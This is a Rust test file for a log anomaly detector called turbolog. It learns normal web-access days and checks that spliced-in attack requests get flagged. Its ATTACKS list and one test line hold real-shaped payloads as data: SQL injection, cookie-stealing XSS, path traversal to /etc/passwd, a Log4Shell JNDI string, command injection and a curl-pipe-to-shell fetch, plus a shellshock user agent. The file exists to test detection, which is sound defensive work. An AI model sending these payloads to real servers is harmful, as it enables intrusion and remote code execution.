//! A learned baseline flags what it has not seen, in values too: `learn` on normal access-log
//! days, then a frozen scan (and `filter --state`) of another day with attack lines spliced in.
//!
//! The normal days are written from the real access logs in `../shared/datasets/realworld`
//! (apache-access, nginx-access): their client addresses, user agents, referers and request
//! shapes, on one site's pages, with the usual long tail (search words, ids, a few 404s).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use turbolog::pipeline::config::Settings;
use turbolog::host::embedded::{Embedded, Filtered, LogLevel};

mod common;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_turbolog"))
}

fn run_with_stdin(cmd: &mut Command, input: &[u8]) -> Output {
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_vec();
    let writer = std::thread::spawn(move || stdin.write_all(&input));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    out
}

fn realworld(dir: &str) -> Vec<String> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/datasets/realworld").join(dir);
    let mut lines = Vec::new();
    for e in std::fs::read_dir(&root).expect("../shared/datasets/realworld beside the repository").flatten() {
        let p = e.path();
        if p.extension().is_some_and(|x| x == "log") {
            lines.extend(std::fs::read_to_string(&p).unwrap().lines().map(str::to_string));
        }
    }
    lines
}

/// The quoted fields of a combined-format line: request, referer, user agent.
fn quoted(line: &str) -> Vec<String> {
    line.split('"').skip(1).step_by(2).map(str::to_string).collect()
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
}

/// The site the normal days come from: the real logs' clients, agents and pages.
struct Site {
    agents: Vec<String>,
    referers: Vec<String>,
    clients: Vec<String>,
    /// Lines written as logfmt records (`msg="request served" method=GET path=… status=200 …`)
    /// instead of the combined format.
    logfmt: bool,
}

const WORDS: [&str; 24] = [
    "ocelot", "patch", "string", "shoes", "red", "blue", "linux", "mac", "guide", "install", "nginx", "apache", "price",
    "help", "login", "account", "order", "cart", "sale", "new", "book", "music", "video", "news",
];

impl Site {
    fn from_realworld() -> Site {
        let mut lines = realworld("apache-access");
        lines.extend(realworld("nginx-access"));
        assert!(lines.len() >= 10, "the real access logs are missing");
        // requests of the combined format: "METHOD PATH PROTO" STATUS SIZE "REFERER" "AGENT"
        let requests: Vec<Vec<String>> = lines.iter().map(|l| quoted(l)).filter(|q| q.len() >= 3 && q[q.len() - 3].contains(" HTTP/")).collect();
        let mut agents: Vec<String> = requests.iter().map(|q| q[q.len() - 1].clone()).filter(|a| a != "-").collect();
        let mut referers: Vec<String> = requests.iter().map(|q| q[q.len() - 2].clone()).collect();
        // clients written as one address
        let mut clients: Vec<String> = lines
            .iter()
            .filter_map(|l| l.split(" - - [").next())
            .filter(|c| !c.contains([' ', '"', ',']) && c.contains(|ch: char| ch.is_ascii_digit()))
            .map(str::to_string)
            .collect();
        for v in [&mut agents, &mut referers, &mut clients] {
            v.sort();
            v.dedup();
        }
        Site { agents, referers, clients, logfmt: false }
    }

    /// A request for one of the site's pages and its status.
    fn request(&self, r: &mut Rng) -> (String, u16) {
        let n = r.below(100);
        let word = |r: &mut Rng| *r.pick(&WORDS);
        match n {
            0..=19 => ("/".into(), 200),
            20..=27 => ("/index.html".into(), 200),
            28..=35 => (format!("/assets/{}?q={}", ["xxxx", "app.js", "site.css", "logo.png"][r.below(4)], r.below(200)), if r.below(5) == 0 { 304 } else { 200 }),
            36..=41 => ("/favicon.ico".into(), if r.below(3) == 0 { 404 } else { 200 }),
            42..=47 => ("/ocelot".into(), 200),
            48..=51 => ("/stringpatch".into(), if r.below(4) == 0 { 404 } else { 200 }),
            52..=59 => (format!("/blog/{}-{}-{}", word(r), word(r), r.below(300)), 200),
            60..=67 => (format!("/products/{}", r.below(5000)), if r.below(40) == 0 { 404 } else { 200 }),
            68..=71 => (format!("/products?page={}&sort={}", r.below(40), ["price", "name", "new"][r.below(3)]), 200),
            72..=79 => {
                let q = if r.below(3) == 0 { format!("{}%20{}", word(r), word(r)) } else { word(r).to_string() };
                (format!("/search?q={q}"), 200)
            }
            80..=85 => (format!("/api/v1/items/{}", r.below(100_000)), 200),
            86..=88 => ("/robots.txt".into(), 200),
            89..=91 => (format!("/account/orders?id={}", r.below(90_000)), if r.below(10) == 0 { 302 } else { 200 }),
            92..=94 => ("/login".into(), 200),
            95..=96 => ("/about".into(), 200),
            97 => ("/contact".into(), 200),
            98 => ("/hello".into(), 404),
            _ => ("/test".into(), 404),
        }
    }

    fn line(&self, r: &mut Rng, day: u32, i: usize, path: &str, status: u16, agent: Option<&str>) -> String {
        let client = if r.below(3) == 0 { r.pick(&self.clients).clone() } else { format!("10.{}.{}.{}", r.below(4), r.below(256), r.below(256)) };
        let secs = i * 86_400 / 12_000;
        let referer = r.pick(&self.referers);
        let agent = agent.map_or_else(|| r.pick(&self.agents).clone(), str::to_string);
        let size = if status == 304 { 0 } else { 200 + r.below(30_000) };
        if self.logfmt {
            let quote = |v: &str| format!("\"{}\"", v.replace('\\', "\\\\").replace('"', "\\\""));
            return format!(
                "time=2016-12-{:02}T{:02}:{:02}:{:02}Z level=info msg=\"request served\" client={client} method=GET path={path} proto=HTTP/1.1 status={status} bytes={size} referer={} agent={}",
                10 + day,
                secs / 3600,
                secs / 60 % 60,
                secs % 60,
                quote(referer),
                quote(&agent)
            );
        }
        format!(
            "{client} - - [{:02}/Dec/2016:{:02}:{:02}:{:02} +0000] \"GET {path} HTTP/1.1\" {status} {size} \"{referer}\" \"{agent}\"",
            10 + day,
            secs / 3600,
            secs / 60 % 60,
            secs % 60
        )
    }

    fn day(&self, day: u32, lines: usize) -> Vec<String> {
        let mut r = Rng(0x9e37_79b9_7f4a_7c15 ^ ((day as u64 + 1) * 0x1234_5678_9abc_def1));
        (0..lines)
            .map(|i| {
                let (path, status) = self.request(&mut r);
                self.line(&mut r, day, i, &path, status, None)
            })
            .collect()
    }
}

/// Attack-shaped requests as scanners (sqlmap, Nikto, w3af) send them, in the site's own line
/// format and user agents: each falls into a template learned from the normal days, so only its
/// values can tell.
const ATTACKS: [(&str, u16); 16] = [
    ("/.git/config", 404),
    ("/.env", 404),
    ("/wp-login.php", 404),
    ("/phpmyadmin/index.php", 404),
    ("/server-status", 403),
    ("/products?page=1%27%20OR%20%271%27=%271&sort=price", 200),
    ("/products/1'%20AND%201=1--", 200),
    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("/search?q=<script>alert(1)</script>", 200),
    ("/blog/../../../../etc/passwd", 404),
    ("/assets/..%2f..%2f..%2fetc%2fpasswd", 404),
    ("/?x=${jndi:ldap://198.51.100.7:1389/a}", 200),
    ("/account/orders?id=1;cat%20/etc/passwd", 200),
    ("/api/v1/items/1|id", 200),
    ("/search?q=$(curl%20http://198.51.100.7/x.sh|sh)", 200),
    ("/cgi-bin/test-cgi", 404),
];

fn write(path: &Path, lines: &[String]) {
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

fn jsonl(out: &[u8]) -> Vec<serde_json::Value> {
    std::str::from_utf8(out).unwrap().lines().map(|l| serde_json::from_str(l).expect(l)).collect()
}

struct Setup {
    _dir: tempfile::TempDir,
    state: PathBuf,
    test_path: PathBuf,
    /// Line numbers (1-based) of the attack lines in the test day.
    attacks: Vec<u64>,
    lines: Vec<String>,
}

fn learned_site(test_lines: usize) -> Setup {
    learned_site_as(test_lines, false)
}

/// [`learned_site`], its lines written as logfmt records when `logfmt`.
fn learned_site_as(test_lines: usize, logfmt: bool) -> Setup {
    let site = Site { logfmt, ..Site::from_realworld() };
    let dir = tempfile::tempdir().unwrap();
    let mut good = Vec::new();
    for day in 0..3 {
        let p = dir.path().join(format!("day{day}.log"));
        write(&p, &site.day(day, 10_000));
        good.push(p);
    }
    let state = dir.path().join("state");
    let out = bin().args(["learn", "--state"]).arg(&state).args(&good).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(state.join("values.tls").exists(), "value baselines are saved beside the templates");
    // day 4: normal traffic, an attack every so often
    let mut lines = site.day(3, test_lines);
    let mut r = Rng(77);
    let mut attacks = Vec::new();
    for (k, (path, status)) in ATTACKS.iter().enumerate() {
        let at = (k + 1) * test_lines / (ATTACKS.len() + 1) + attacks.len();
        lines.insert(at, site.line(&mut r, 3, at, path, *status, None));
        attacks.push(at as u64 + 1);
    }
    let test_path = dir.path().join("day3.log");
    write(&test_path, &lines);
    if let Ok(keep) = std::env::var("VALUE_BASELINE_KEEP") {
        // to look at the days by hand
        for p in good.iter().chain([&test_path]) {
            std::fs::copy(p, Path::new(&keep).join(p.file_name().unwrap())).unwrap();
        }
    }
    Setup { _dir: dir, state, test_path, attacks, lines }
}

/// Reasons that come from values, not from templates.
fn is_value_reason(r: &str) -> bool {
    ["new value in ", "new characters in ", "new first path segment in ", "value far longer"].iter().any(|p| r.starts_with(p))
}

#[test]
fn a_frozen_scan_flags_attack_values_in_learned_templates_and_little_else() {
    frozen_scan_flags_attack_values(&learned_site(10_000), "in path: /.git/config");
}

/// The same requests as logfmt records: the message is `request served`, the request's parts
/// are fields (`path=`, `agent=`), each with a baseline of its own.
#[test]
fn a_frozen_scan_flags_attack_values_in_logfmt_fields() {
    let s = learned_site_as(10_000, true);
    assert!(s.lines[0].contains(" msg=\"request served\" ") && s.lines[0].contains(" path="), "{}", s.lines[0]);
    frozen_scan_flags_attack_values(&s, "in path: /.git/config");
}

#[test]
fn filter_and_the_plugin_flag_attack_values_in_logfmt_fields() {
    let s = learned_site_as(3_000, true);
    filter_flags_attack_values(&s);
    plugin_flags_attack_values(&s);
}

fn frozen_scan_flags_attack_values(s: &Setup, git_reason: &str) {
    let out = bin().args(["scan", "--format", "jsonl", "--frozen", "--state"]).arg(&s.state).arg(&s.test_path).output().unwrap();
    let rows = jsonl(&out.stdout);
    assert_eq!(rows.len(), s.lines.len());
    let mut false_alarms = Vec::new();
    for row in &rows {
        let line = row["line"].as_u64().unwrap();
        let reason = row["reason"].as_str().unwrap_or("");
        if s.attacks.contains(&line) {
            assert_eq!(row["anomaly"], true, "attack line not flagged: {}\n{row}", s.lines[line as usize - 1]);
            assert!(is_value_reason(reason), "attack line flagged without a value reason: {row}");
        } else if row["anomaly"] == true {
            false_alarms.push(format!("{}  <- {reason}", s.lines[line as usize - 1]));
        }
    }
    let normal = rows.len() - s.attacks.len();
    println!("frozen scan: {} of {} attack lines flagged with a value reason; {} false alarms in {normal} normal lines", s.attacks.len(), s.attacks.len(), false_alarms.len());
    for f in false_alarms.iter().take(10) {
        println!("  false alarm: {f}");
    }
    assert!(false_alarms.len() * 10_000 <= 5 * normal, "{} false alarms in {normal} normal lines:\n{}", false_alarms.len(), false_alarms.join("\n"));
    // the reason names the position and the value
    let git = rows.iter().find(|r| r["line"].as_u64() == Some(s.attacks[0])).unwrap();
    assert!(git["reason"].as_str().unwrap().contains(git_reason), "{git}");
}

#[test]
fn filter_with_state_flags_the_same_attack_values() {
    filter_flags_attack_values(&learned_site(3_000));
}

fn filter_flags_attack_values(s: &Setup) {
    let out = run_with_stdin(bin().args(["filter", "--state"]).arg(&s.state), std::fs::read(&s.test_path).unwrap().as_slice());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = jsonl(&out.stdout);
    assert_eq!(rows.len(), s.lines.len());
    for &at in &s.attacks {
        let row = &rows[at as usize - 1];
        assert_eq!(row["anomaly"], true, "{row}");
        assert!(is_value_reason(row["anomaly_reason"].as_str().unwrap_or("")), "{row}");
    }
    let flagged = rows.iter().filter(|r| r["anomaly"] == true).count();
    assert!(flagged - s.attacks.len() <= 3, "{flagged} flagged in {} lines", rows.len());
}

#[test]
fn diff_and_a_frozen_scan_agree_on_what_is_new() {
    let site = Site::from_realworld();
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("good.log");
    write(&good, &site.day(0, 3_000));
    // new messages: other methods, a new agent, a shellshock referer, an error log line
    let mut bad = site.day(1, 1_000);
    let mut r = Rng(5);
    bad.push(site.line(&mut r, 1, 1, "/", 200, Some("() { :;}; echo \\\"NS:\\\" $(/bin/sh -c \\\"expr 299663299665 / 3\\\")")));
    bad.push(bad[3].replace("\"GET ", "\"POST "));
    let served = bad.iter().find(|l| l.contains("HTTP/1.1\" 200")).unwrap().clone();
    bad.push(served.replace("HTTP/1.1\" 200", "HTTP/1.1\" 500"));
    bad.push("[Mon Dec 26 16:22:00.123 2016] [core:error] [pid 1234] AH00124: Request exceeded the limit of 10 internal redirects".into());
    let bad_path = dir.path().join("bad.log");
    write(&bad_path, &bad);
    let state = dir.path().join("state");
    assert!(bin().args(["learn", "--state"]).arg(&state).arg(&good).status().unwrap().success());
    let scan = bin().args(["scan", "--format", "jsonl", "--frozen", "--state"]).arg(&state).arg(&bad_path).output().unwrap();
    let rows = jsonl(&scan.stdout);
    let diff = bin().args(["diff", "--top", "1000"]).arg(&good).arg("--").arg(&bad_path).output().unwrap();
    let report = String::from_utf8(diff.stdout).unwrap();
    let new_lines: u64 = report.lines().find_map(|l| l.strip_prefix("new in the compared logs: ")).and_then(|l| l.split(' ').next()).unwrap().parse().unwrap();
    let templates = |rows: &[serde_json::Value], pred: &dyn Fn(&serde_json::Value) -> bool| {
        let mut t: Vec<u64> = rows.iter().filter(|r| pred(r)).map(|r| r["template_id"].as_u64().unwrap()).collect();
        t.sort();
        t.dedup();
        t
    };
    let learned: Vec<u64> = {
        let learned_rows = jsonl(&bin().args(["scan", "--format", "jsonl", "--frozen", "--state"]).arg(&state).arg(&good).output().unwrap().stdout);
        templates(&learned_rows, &|_| true)
    };
    let unseen = |r: &serde_json::Value| !learned.contains(&r["template_id"].as_u64().unwrap());
    let unseen_rows = rows.iter().filter(|r| unseen(r)).count() as u64;
    assert!(unseen_rows >= 3, "the new lines are new templates: {unseen_rows}");
    assert_eq!(unseen_rows, new_lines, "diff:\n{report}");
    // each line written unlike the baseline is flagged: new templates, and the request whose
    // method widened a learned template (`"GET` was a constant there)
    for (k, r) in rows.iter().rev().take(4).enumerate() {
        assert_eq!(r["anomaly"], true, "injected line {k} from the end: {r}");
    }
    // every line of a template the baseline never held is flagged
    for r in rows.iter().filter(|r| unseen(r)) {
        assert_eq!(r["anomaly"], true, "{r}");
    }
    assert!(!templates(&rows, &|r| unseen(r)).is_empty());
}

fn quiet(_: LogLevel, _: &str) {}

/// Anomalies among the records of one chunk, through the plugin's record path.
fn plugin_anomalies(e: &Arc<Embedded>, lines: &[String]) -> u64 {
    e.filter(&common::chunk(lines, 1_481_500_000), quiet, |f| match f {
        Filtered::Modified(_, stats) => stats.anomalies,
        _ => panic!("records were not tagged"),
    })
}

#[test]
fn the_plugin_with_a_learned_state_dir_flags_each_attack_line() {
    plugin_flags_attack_values(&learned_site(3_000));
}

fn plugin_flags_attack_values(s: &Setup) {
    let state = s.state.to_str().unwrap().to_string();
    let settings = Settings::from_pairs([("state_dir", state.as_str()), ("learning", "false")]).unwrap();
    let e = Embedded::open(settings, quiet).unwrap();
    let normal: Vec<String> = s.lines.iter().enumerate().filter(|(i, _)| !s.attacks.contains(&(*i as u64 + 1))).map(|(_, l)| l.clone()).collect();
    let quiet_day = plugin_anomalies(&e, &normal);
    assert!(quiet_day <= 1, "{quiet_day} false alarms in {} normal lines", normal.len());
    for &at in &s.attacks {
        let line = s.lines[at as usize - 1].clone();
        assert_eq!(plugin_anomalies(&e, std::slice::from_ref(&line)), 1, "not flagged through the plugin: {line}");
    }
}

/// BGL and HDFS values are node names, block ids, sizes and addresses: ids and counters. After a
/// baseline they must stay silent (the eval scripts' learned rows depend on it).
#[test]
fn value_findings_do_not_flood_bgl_or_hdfs() {
    use turbolog::detect::score::Kind;
    let shared = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/datasets");
    let read = |p: &str| -> Vec<String> {
        String::from_utf8_lossy(&std::fs::read(shared.join(p)).expect("../shared/datasets")).lines().map(str::to_string).collect()
    };
    let value_findings = |train: &[String], test: &[String]| {
        let mut e = turbolog::Engine::new(turbolog::EngineConfig::default());
        for l in train {
            e.learn_line(l);
        }
        e.set_learning(false);
        test.iter().filter(|l| matches!(e.process_line(l).reason.kind, Kind::Value(_))).count()
    };
    // BGL, labels stripped: the normal lines of one file learned, the other file scanned
    let unlabelled = |lines: &[String], only_normal: bool| -> Vec<String> {
        lines
            .iter()
            .filter_map(|l| l.split_once(' '))
            .filter(|(label, _)| !only_normal || *label == "-")
            .map(|(_, rest)| rest.to_string())
            .collect()
    };
    let (small, large) = (read("loghub/BGL/BGL_2k.log"), read("bgl/BGL_20k.log"));
    assert_eq!(value_findings(&unlabelled(&small, true), &unlabelled(&large, false)), 0, "BGL_20k after BGL_2k's normal lines");
    assert_eq!(value_findings(&unlabelled(&large, true), &unlabelled(&small, false)), 0, "BGL_2k after BGL_20k's normal lines");
    // HDFS: the first half learned, the second scanned
    let hdfs = read("hdfs/HDFS_dev.log");
    let half = hdfs.len() / 2;
    assert_eq!(value_findings(&hdfs[..half], &hdfs[half..]), 0, "HDFS_dev's second half after its first");
}

/// The same agreement on a real system's logs: BGL_2k's normal lines learned (labels stripped),
/// BGL_20k compared. A restored miner finds a template by its shape as the learning one did
/// (an all-`<*>` template agrees with no message on a constant).
#[test]
fn diff_and_a_frozen_scan_agree_on_bgl() {
    let shared = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/datasets");
    let unlabelled = |p: &str, only_normal: bool| -> Vec<String> {
        String::from_utf8_lossy(&std::fs::read(shared.join(p)).expect("../shared/datasets"))
            .lines()
            .filter_map(|l| l.split_once(' '))
            .filter(|(label, _)| !only_normal || *label == "-")
            .map(|(_, rest)| rest.to_string())
            .collect()
    };
    let dir = tempfile::tempdir().unwrap();
    let (good, bad, state) = (dir.path().join("good.log"), dir.path().join("bad.log"), dir.path().join("state"));
    write(&good, &unlabelled("loghub/BGL/BGL_2k.log", true));
    write(&bad, &unlabelled("bgl/BGL_20k.log", false));
    assert!(bin().args(["learn", "--state"]).arg(&state).arg(&good).status().unwrap().success());
    let diff = bin().arg("diff").arg(&good).arg("--").arg(&bad).output().unwrap();
    let report = String::from_utf8(diff.stdout).unwrap();
    let new_lines: usize = report.lines().find_map(|l| l.strip_prefix("new in the compared logs: ")).and_then(|l| l.split(' ').next()).unwrap().parse().unwrap();
    let learned = report.lines().next().and_then(|l| l.split('(').nth(1)).and_then(|l| l.split(' ').next()).unwrap().parse::<u64>().unwrap();
    let rows = jsonl(&bin().args(["scan", "--format", "jsonl", "--frozen", "--state"]).arg(&state).arg(&bad).output().unwrap().stdout);
    // an empty message (BGL has header-only lines, none among BGL_2k's normal ones) is no
    // template to be new: neither side counts it
    let (empty, unseen): (Vec<&serde_json::Value>, Vec<&serde_json::Value>) = rows.iter().filter(|r| r["template_id"].as_u64().unwrap() >= learned).partition(|r| r["template"] == "");
    assert!(new_lines > 1000, "{report}");
    assert_eq!(unseen.len(), new_lines, "lines of templates the baseline never held, frozen scan against diff");
    assert!(unseen.iter().all(|r| r["anomaly"] == true));
    assert!(empty.len() >= 100, "{} empty messages", empty.len());
    assert!(empty.iter().all(|r| !r["reason"].as_str().unwrap_or("").contains("new template")), "an empty message flagged as new");
}

/// One client making most requests — of pages, agents and statuses all learned — is a share the
/// baseline never saw: flagged with its position and value once it has taken most of a window,
/// through the line cache as without it.
#[test]
fn one_client_making_most_requests_is_a_share_jump() {
    let s = learned_site(6_000);
    let site = Site::from_realworld();
    let mut r = Rng(99);
    // a scraper: 400 requests for the site's own pages, from one address with one of the site's
    // user agents, within 500 lines
    let agent = site.agents.iter().find(|a| a.starts_with("Mozilla/5.0 (Macintosh")).unwrap_or(&site.agents[0]).clone();
    let mut lines = s.lines.clone();
    let from = 3_000;
    let mut scraper = Vec::new();
    for k in 0..400 {
        let (path, status) = site.request(&mut r);
        let at = from + k + k / 4;
        let line = site.line(&mut r, 3, at, &path, status, Some(&agent));
        let ip = line.split(' ').next().unwrap().to_string();
        lines.insert(at, line.replacen(&ip, "203.0.113.77", 1));
        scraper.push(at as u64 + 1);
    }
    let path = s.test_path.with_file_name("scraped.log");
    write(&path, &lines);
    let out = bin().args(["scan", "--format", "jsonl", "--frozen", "--state"]).arg(&s.state).arg(&path).output().unwrap();
    let rows = jsonl(&out.stdout);
    assert_eq!(rows.len(), lines.len());
    let share = |r: &serde_json::Value| r["reason"].as_str().unwrap_or("").starts_with("share jump in ");
    let jumps: Vec<&serde_json::Value> = rows.iter().filter(|r| share(r)).collect();
    let on_scraper = jumps.iter().filter(|r| scraper.contains(&r["line"].as_u64().unwrap())).count();
    println!("share jumps: {} rows, {on_scraper} of them the scraper's {} requests", jumps.len(), scraper.len());
    for j in jumps.iter().take(3) {
        println!("  {}", j["reason"]);
    }

    assert!(on_scraper >= scraper.len() / 2, "{on_scraper} of {} scraper lines flagged as a share jump", scraper.len());
    assert_eq!(jumps.len(), on_scraper, "share jumps on other lines");
    assert!(jumps[0]["reason"].as_str().unwrap().contains("share jump in field 1: 203.0.113.77 took "), "{}", jumps[0]);
    // `filter --state` (still learning, lines from stdin) flags the scraper's lines the same way
    let out = run_with_stdin(bin().args(["filter", "--state"]).arg(&s.state), std::fs::read(&path).unwrap().as_slice());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let filtered = jsonl(&out.stdout);
    let filter_jumps: Vec<u64> = (1..=filtered.len() as u64).filter(|&i| filtered[i as usize - 1]["anomaly_reason"].as_str().unwrap_or("").starts_with("share jump in field 1: 203.0.113.77")).collect();
    println!("filter --state: {} share jumps on the scraper's lines", filter_jumps.len());
    assert!(filter_jumps.len() >= scraper.len() / 2 && filter_jumps.iter().all(|i| scraper.contains(i)), "{filter_jumps:?}");
}
